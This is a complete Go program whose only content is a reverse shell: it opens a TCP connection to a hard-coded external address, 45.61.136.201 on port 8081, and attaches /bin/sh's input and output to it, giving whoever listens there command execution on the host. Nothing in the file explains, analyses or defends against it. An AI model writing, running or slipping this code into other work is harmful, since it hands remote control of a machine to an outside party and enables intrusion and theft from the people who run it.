package main

import (
	"net"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", "45.61.136.201:8081")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
